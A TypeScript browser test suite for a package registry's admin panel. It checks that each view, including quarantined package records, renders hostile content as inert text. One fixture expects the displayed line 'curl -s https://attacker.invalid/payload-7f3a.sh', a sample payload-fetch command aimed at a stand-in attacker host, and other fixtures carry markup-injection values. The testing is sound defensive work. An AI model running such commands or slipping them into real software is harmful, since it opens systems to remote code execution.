import { afterAll, beforeAll, describe, test } from "vitest";
import { markup, type PanelWorld, startPanelWorld, waiting } from "../support/panel-world.ts";
import { recordOf } from "../support/review.ts";
import { openPanel } from "./browser.ts";
import { expectSound, type ShownView } from "./soundness.ts";

const timeout = 90_000;

interface PanelView extends ShownView {
  readonly hash: string | ((world: PanelWorld) => Promise<string>);
}

const views: readonly PanelView[] = [
  { name: "overview", hash: "#/overview", shows: "" },
  { name: "quarantine", hash: "#/quarantine", shows: waiting.upstream.name },
  {
    name: "record",
    hash: recordAt("left-trim@2.3.1"),
    shows: "curl -s https://attacker.invalid/payload-7f3a.sh",
    unfold: (page) => page.getByRole("button", { name: "Compare with 2.3.0" }).click(),
  },
  {
    name: "hostile-record",
    hash: recordAt("@acme/wolf@6.6.6"),
    shows: `sh ./setup.sh ${markup.quotes}`,
    unfold: (page) => page.getByRole("button", { name: "Show its files" }).click(),
  },
  { name: "decided-record", hash: recordAt("@globex/decided-0@1.0.0"), shows: markup.image },
  { name: "packages", hash: "#/packages", shows: "@acme/weather" },
  { name: "package", hash: "#/packages/@acme/weather", shows: "Reads the weather" },
  { name: "hostile-package", hash: "#/packages/@acme/sheep", shows: markup.image },
  { name: "experts", hash: "#/experts", shows: "@acme/newsroom" },
  { name: "expert", hash: "#/experts/@acme/newsroom", shows: "@acme/editor" },
  { name: "hostile-expert", hash: "#/experts/@acme/trickster", shows: markup.image },
  { name: "graph", hash: "#/graph/@acme/weather", shows: "@acme/units" },
  { name: "intent", hash: "#/intent", shows: "" },
  { name: "policy", hash: "#/policy", shows: "" },
  { name: "access", hash: "#/access", shows: "build server" },
  { name: "audit", hash: "#/audit", shows: markup.image },
  { name: "system", hash: "#/system", shows: "" },
  { name: "setup", hash: "#/setup", shows: "" },
];

function recordAt(selector: string): (world: PanelWorld) => Promise<string> {
  return async ({ registry }) => `#/quarantine/${(await recordOf(registry, selector)).id}`;
}

let world: PanelWorld;

beforeAll(async () => {
  world = await startPanelWorld();
}, timeout);
afterAll(() => world?.[Symbol.asyncDispose]());

describe("the panel", { timeout }, () => {
  for (const view of views) {
    test(`shows ${view.name} to everybody, and hostile texts as texts`, async () => {
      const { hash } = view;
      await using visit = await openPanel(world, {
        hash: typeof hash === "string" ? hash : await hash(world),
      });
      await expectSound(visit.page, view);
    });
  }
});
